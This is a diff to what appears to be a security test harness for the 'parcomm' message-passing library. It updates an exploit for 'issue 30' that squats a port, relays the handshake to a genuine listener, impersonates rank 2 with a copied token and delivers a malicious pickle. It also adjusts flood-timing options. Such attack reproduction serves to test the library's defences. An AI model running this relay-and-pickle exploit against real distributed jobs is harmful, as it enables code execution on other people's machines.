@@ -251,42 +251,46 @@ def _recv_n(sock: socket.socket, n: int, timeout: float) -> bytes:
 
 
 def _squat_relay(listener: socket.socket, upstream: int, marker: Path, size: int, stop_at: float, log: list) -> None:
-    """Issue 30's relay, byte for byte as found: splice each member that connects to the
-    squatted port with rank 1's genuine listener for the greeting and proof (40 + 32 bytes
-    each way), then answer the member's hello as rank 2 (its own token copied) and send
-    both sides a pickle on the start barrier's tag."""
+    """Issue 30's relay, as found: splice each member that connects to the squatted port
+    with a genuine listener (rank 1's) for the greeting and proof (40 + 32 bytes each way,
+    issue 14's handshake), then answer the member's hello itself as rank 2 (its own token
+    copied back) and send it a pickle on the start barrier's tag. Each connection on a
+    thread of its own, held open until ``stop_at``."""
+    import threading
+
     body = pickle.dumps(_Exploit(str(marker)))
-    listener.settimeout(0.2)
-    while time.monotonic() < stop_at and not marker.exists():
-        try:
-            down, _ = listener.accept()
-        except OSError:
-            continue
+
+    def splice(down: socket.socket) -> None:
         try:
             up = socket.create_connection(("127.0.0.1", upstream), timeout=2)
         except OSError:
             down.close()
-            continue
+            return
         try:
             up.sendall(_recv_n(down, 40, 2))
             down.sendall(_recv_n(up, 40, 2))
             up.sendall(_recv_n(down, 32, 2))
             down.sendall(_recv_n(up, 32, 2))
-        except OSError:
-            pass
-        try:
             hello = _recv_n(down, _HELLO.size, 2)
-            member = struct.unpack("!8sIIQ", hello)[1] if len(hello) == _HELLO.size else 0
-            token = struct.unpack("!8sIIQ", hello)[3] if len(hello) == _HELLO.size else 0
-            frame = lambda src: _HDR.pack(1, src, _SYNC_TAG_FRAME, len(body), len(body), 0) + body  # noqa: E731
-            down.sendall(_HELLO.pack(b"parcomm1", 2, size, token) + frame(2))
-            up.sendall(hello + frame(member))
-            log.append("injected")
+            magic, member, _, token = struct.unpack("!8sIIQ", hello)
+            frame = _HDR.pack(1, 2, _SYNC_TAG_FRAME, len(body), len(body), 0) + body
+            down.sendall(_HELLO.pack(magic, 2, size, token) + frame)
+            log.append(f"answered rank {member} as rank 2 and sent the pickle")
+            while time.monotonic() < stop_at and not marker.exists():
+                time.sleep(0.1)
         except (OSError, struct.error):
             pass
-        time.sleep(0.5)
-        down.close()
-        up.close()
+        finally:
+            down.close()
+            up.close()
+
+    listener.settimeout(0.2)
+    while time.monotonic() < stop_at:
+        try:
+            down, _ = listener.accept()
+        except OSError:
+            continue
+        threading.Thread(target=splice, args=(down,), daemon=True).start()
 
 
 def relay_squat(tree: Path, work: Path) -> dict:
@@ -301,7 +305,7 @@ def relay_squat(tree: Path, work: Path) -> dict:
     import threading
 
     relay = threading.Thread(
-        target=_squat_relay, args=(listener, ports[1], marker, 3, time.monotonic() + 30, log), daemon=True
+        target=_squat_relay, args=(listener, ports[1], marker, 3, time.monotonic() + 20, log), daemon=True
     )
     relay.start()
     env = _env(tree)
@@ -509,6 +513,7 @@ def main() -> None:
     ap.add_argument("--stream-s", type=float, default=5.0, help="seconds the huge frame is streamed")
     ap.add_argument("--bcast", action="store_true", help="also the broadcast attack (needs versitygw)")
     ap.add_argument("--issue30", action="store_true", help="only issue 30's network attacks")
+    ap.add_argument("--no-flood", action="store_true", help="with --issue30: skip the flood timings")
     args = ap.parse_args()
     has_auth = (args.tree / "python" / "parcomm" / "auth").is_dir()
     print(f"tree {args.tree} ({'with' if has_auth else 'without'} job authentication)")
@@ -516,7 +521,7 @@ def main() -> None:
         work = Path(tmp)
         if args.issue30:
             results = [relay_squat(args.tree, work), frame_injection(args.tree, work)]
-            for flooded in (False, True, False, True):  # interleaved: unflooded, flooded, twice
+            for flooded in () if args.no_flood else (False, True, False, True):  # interleaved, twice
                 results.append(run_socket_flood(args.tree, work, flooded))
                 results.append(rendezvous_flood(args.tree, work, flooded))
         else:
